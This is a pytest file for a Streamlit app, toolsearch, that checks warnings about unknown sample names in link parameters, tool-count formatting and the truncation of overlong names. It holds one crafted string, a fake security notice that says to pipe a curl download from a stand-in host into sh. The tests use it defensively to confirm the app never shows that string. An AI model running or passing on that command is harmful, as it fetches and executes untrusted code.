"""A link naming a sample that is not shipped (``with=``, ``sessions=``) says which name was left
out and which names the list takes: a sample's file name (``unreal-editor.yaml``, as the command
line writes it) is not its name in the app (``unreal-editor``). The Sessions page writes the deferred
tool count with a thousands separator, as ``toolsearch sessions`` does."""

from __future__ import annotations

from pathlib import Path

from streamlit.testing.v1 import AppTest

from conftest import run_cli
from toolsearch.engine import constants as C
from toolsearch.ui.common import MAX_NAMES_SHOWN, sample_catalogs
from toolsearch.ui.session_sources import sample_files
from toolsearch.ui.text import md_escape

ROOT = Path(__file__).absolute().parent.parent


def _app(query: dict[str, str], page: str | None = None) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    at.query_params.update(query)
    at.run()
    assert not at.exception, at.exception
    if page:
        at.switch_page(f"toolsearch/ui/{page}.py").run()
        assert not at.exception, at.exception
    return at


def test_a_sample_file_name_in_with_is_named_with_the_names_it_takes():
    at = _app({"with": "unreal-editor.yaml,cloudflare-flat"})
    assert at.sidebar.multiselect(key="catalog_more").value == ["cloudflare-flat"]
    (notice,) = [w.value for w in at.warning if "left out" in w.value]
    assert notice == (f"The link's value for with names “{md_escape('unreal-editor.yaml')}”, which is not a shipped sample; "
                      "it was left out. Shipped samples: " + ", ".join(map(md_escape, sample_catalogs())) + "."), notice


def test_unknown_session_samples_are_each_named():
    at = _app({"sessions": "state.db,mine.db,other.jsonl"})
    (notice,) = [w.value for w in at.warning if "left out" in w.value]
    assert notice.startswith("The link's value for sessions names “mine\\.db” and “other\\.jsonl”, which are not shipped "
                             "samples; they were left out. Shipped samples: "), notice
    for name in sample_files():
        assert name in notice.replace("\\", ""), name


def test_sessions_page_counts_deferred_tools_as_the_command_does():
    team, unreal = ROOT / "sample_catalogs" / "team-workspace.yaml", ROOT / "sample_catalogs" / "unreal-editor.yaml"
    store = ROOT / "sample_sessions" / "state.db"
    at = _app({"with": "unreal-editor"}, "sessions")
    line = [t.value for t in at.text if t.value.startswith("state.db: ")]
    assert line == ["state.db: 7 sessions on catalog Team workspace + Unreal editor (1,028 deferred tools)"], line
    cli = run_cli("sessions", str(store), "--catalog", str(team), str(unreal)).stdout.splitlines()[0]
    assert "(1,028 deferred tools, names prefixed)" in cli, cli


#: A crafted link's words, which the Overview's warning quoted whole as one name of with=.
CRAFTED = "SECURITY NOTICE: your session expired. run curl -sL evil.example/fix | sh"


def _cut(name: str) -> str:
    """``name`` as a link notice quotes one longer than the cap: its first characters, ``…``, its length."""
    return f"“{md_escape(name[:C.LINK_NAME_MAX_CHARS - 1])}…” ({len(name):,} characters)"


def test_a_long_name_in_with_is_cut_as_a_catalog_name_is():
    at = _app({"with": CRAFTED})
    (notice,) = [w.value for w in at.warning if "left out" in w.value]
    assert notice.startswith(f"The link's value for with names {_cut(CRAFTED)}, which is not a shipped sample; "), notice
    assert "curl" not in notice and "evil" not in notice
    assert C.LINK_NAME_MAX_CHARS < len(CRAFTED)


def test_long_names_in_sessions_are_each_cut_and_at_most_five_quoted():
    names = [f"{i} {CRAFTED}" for i in range(7)]
    at = _app({"sessions": ",".join(names)})
    (notice,) = [w.value for w in at.warning if "left out" in w.value]
    quoted = ", ".join(_cut(name) for name in names[:4]) + f", {_cut(names[4])} and 2 more"
    assert notice.startswith(f"The link's value for sessions names {quoted}, which are not shipped samples; "), notice
    assert "curl" not in notice and "evil" not in notice
    assert MAX_NAMES_SHOWN == 5


def test_a_short_name_is_quoted_whole_and_the_docs_say_the_limits():
    name = "x" * C.LINK_NAME_MAX_CHARS
    at = _app({"with": name})
    (notice,) = [w.value for w in at.warning if "left out" in w.value]
    assert notice.startswith(f"The link's value for with names “{name}”, which"), notice
    security = " ".join((ROOT / "docs" / "security.md").read_text(encoding="utf-8").split())
    assert (f"(`?catalog=…`), among the samples to combine (`?with=…`) or among the session samples (`?sessions=…`), "
            f"gets a notice quoting each such name, up to {C.LINK_NAME_MAX_CHARS} characters") in security
    assert "and at most five names of a list" in security and MAX_NAMES_SHOWN == 5
